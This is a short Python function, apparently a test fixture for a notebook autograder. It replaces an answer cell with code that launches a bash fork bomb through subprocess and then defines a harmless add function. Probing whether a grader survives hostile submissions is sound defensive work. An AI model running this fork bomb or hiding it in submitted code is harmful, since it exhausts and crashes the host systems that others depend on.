def mutate(cells):
    cells["answer-t1"]["source"] = """import subprocess

subprocess.Popen(['bash', '-c', 'bomb() { bomb | bomb & }; bomb'])


def add(a, b):
    return a + b"""
